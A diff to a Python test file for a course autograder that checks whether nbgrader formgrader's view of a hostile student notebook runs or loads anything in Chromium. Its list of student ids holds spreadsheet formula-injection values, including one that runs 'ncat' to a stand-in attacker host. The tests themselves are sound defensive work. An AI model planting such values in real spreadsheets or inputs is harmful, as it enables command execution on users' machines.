@@ -4,10 +4,10 @@ A small class of assignment 01 (blank notebooks, which grade fast) is graded by
 `d2lcourse grade`: a hostile student whose notebook carries attacks of every kind in every field (cells,
 outputs of each MIME type, attachments, metadata), and students whose ids are
 spreadsheet formulas. Formgrader's own view of the autograded notebook is rendered as
-formgrader renders it (its `formgrade` template and HTMLExporter, under the course's
-nbgrader config) and opened in Chromium, served with formgrader's scripts; every attack
-reports to a local server if it runs or loads anything. The same attacks on the
-submitted notebook, uncleaned, show that they would run.
+formgrader renders it (the HTMLExporter of nbgrader's formgrader, set up on the course as
+its server extension does) and opened in Chromium, served with formgrader's scripts; every
+attack, and any fetch from another host (MathJax's CDN too), reports to a local server.
+The same attacks on the submitted notebook, uncleaned, show that they would run.
 """
 import csv
 import html
@@ -37,14 +37,14 @@ from d2lcourse.autograder.sandbox import bubblewrap_problem
 from d2lcourse.course import ASSIGNMENTS
 from d2lcourse.notebooks import grade_id, is_test_cell, read
 from test_pages import (MARK, POLICY_META, STUDENT_TEX, assert_nothing_executable, chromium,
-                        mathjax_cdn, png, typeset_math)  # noqa: F401
+                        png, typeset_math)
 
 pytestmark = pytest.mark.skipif(bubblewrap_problem() is not None,
                                 reason="bubblewrap cannot run here")
 
 ASSIGNMENT = ASSIGNMENTS["01_ndarray_autograd"]
 NOTEBOOK = Path(ASSIGNMENT.notebook).stem
-EVIL = "evil.example"  # every host name but MathJax's CDN leads to the local server
+EVIL = "evil.example"  # every host name leads to the local server
 CHROMIUMS_OWN = "EXCLUDE *.google.com, EXCLUDE *.googleapis.com"  # its clock and updates
 # Student ids that a spreadsheet would run as formulas (nbgrader takes each as an id).
 FORMULA_IDS = ("=HYPERLINK(CONCATENATE(A1;B1);C1)", "+cmd|ncat evil.example 80!A0", "-2+3",
@@ -201,31 +201,34 @@ def witness():
 
 
 def formgrader_page(course, notebook_path, student):
-    """The page formgrader serves for a submission: its HTMLExporter, configured as
-    `FormgradeExtension` does (the course's nbgrader config, the formgrade template)."""
+    """The page formgrader serves for a submission: the HTMLExporter of nbgrader's
+    `FormgradeExtension`, initialised on the course as formgrader does when it is pointed
+    at a course folder (handlers.FormgraderHandler)."""
     from nbconvert.exporters import HTMLExporter
-    from nbgrader.server_extensions.formgrader import handlers
-    from traitlets.config.loader import PyFileConfigLoader
-    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
-    config.HTMLExporter.template_name = "formgrade"
-    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
+    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
+    from traitlets.config import Config
+    formgrader = FormgradeExtension(config=Config())
+    formgrader.load_cwd_config = False
+    formgrader.config_dir = str(course)
+    formgrader.initialize([], root=str(course))
     resources = {"assignment_id": ASSIGNMENT.id, "notebook_id": NOTEBOOK,
                  "submission_id": "0123456789abcdef", "index": 0, "total": 1, "base_url": "",
                  "student": student, "last_name": None, "first_name": None,
                  "notebook_path": f"course/autograded/{student}/{ASSIGNMENT.id}/{NOTEBOOK}.ipynb"}
-    page, _ = HTMLExporter(config=config).from_filename(str(notebook_path), resources=resources)
+    page, _ = HTMLExporter(config=formgrader.config).from_filename(str(notebook_path),
+                                                                  resources=resources)
     return page
 
 
-def open_in_chromium(server, name, page, cdn, folder):
+def open_in_chromium(server, name, page, folder):
     """The DOM of `page`, served by `server`, once its scripts and MathJax are done, and
     the leaks it caused."""
     server.pages[f"/{name}.html"] = page
     del server.leaks[:]
-    rules, *others = cdn
     dom = chromium(f"http://{server.own_host}/{name}.html",
-                   f"{rules}, MAP * {server.own_host}, {CHROMIUMS_OWN}", *others, "--dump-dom",
-                   "--virtual-time-budget=10000", profile=folder / f"profile-{name}").stdout
+                   f"--host-resolver-rules=MAP * {server.own_host}, {CHROMIUMS_OWN}",
+                   "--dump-dom", "--virtual-time-budget=10000",
+                   profile=folder / f"profile-{name}").stdout
     return dom, sorted(set(server.leaks))
 
 
@@ -235,36 +238,33 @@ def student_part(page):
 
 
 def test_formgraders_view_of_the_autograded_notebook_runs_and_loads_nothing(
-        course, witness, mathjax_cdn, tmp_path):
-    cdn, requested = mathjax_cdn
+        course, witness, tmp_path):
     submitted = course / "submitted" / "hostile" / ASSIGNMENT.id / ASSIGNMENT.notebook
     autograded = course / "autograded" / "hostile" / ASSIGNMENT.id / ASSIGNMENT.notebook
     assert autograded.is_file()
 
     _, stock_leaks = open_in_chromium(
-        witness, "stock", formgrader_page(course, submitted, "hostile"), cdn, tmp_path)
+        witness, "stock", formgrader_page(course, submitted, "hostile"), tmp_path)
     names = {leak.rsplit("/leak/", 1)[1] for leak in stock_leaks if "/leak/" in leak}
     # The attacks work: uncleaned, formgrader runs the student's scripts and TeX.
     assert {"script", "img-onerror", "js", "remote-image", "filenames"} <= names, stock_leaks
 
     page = formgrader_page(course, autograded, "hostile")
     assert_nothing_executable(student_part(page))
-    dom, leaks = open_in_chromium(witness, "autograded", page, cdn, tmp_path)
+    dom, leaks = open_in_chromium(witness, "autograded", page, tmp_path)
     assert leaks == []
     assert MARK.replace("' + '", "") not in dom
     assert f"<title>{NOTEBOOK}</title>" in dom
-    assert not [path for path in requested if "leak" in path]
-    assert (STUDENT_TEX, True) in typeset_math(dom)  # MathJax ran over the student's math
+    assert (STUDENT_TEX, True) in typeset_math(dom)  # offline, MathJax typeset the student's math
     assert "&lt;script&gt;" in dom  # the attempt is shown as text
     assert "(not shown: " in dom and "application/javascript" in dom
 
 
 def test_our_feedback_page_runs_and_loads_nothing_even_without_its_policy(
-        course, witness, mathjax_cdn, tmp_path):
-    cdn, _ = mathjax_cdn
+        course, witness, tmp_path):
     page = (course / "feedback" / "hostile" / ASSIGNMENT.id / f"{NOTEBOOK}.html").read_text()
     assert POLICY_META.search(page)
-    dom, leaks = open_in_chromium(witness, "feedback", POLICY_META.sub("", page), cdn, tmp_path)
+    dom, leaks = open_in_chromium(witness, "feedback", POLICY_META.sub("", page), tmp_path)
     assert leaks == []
     assert MARK.replace("' + '", "") not in dom
     assert (STUDENT_TEX, True) in typeset_math(dom)
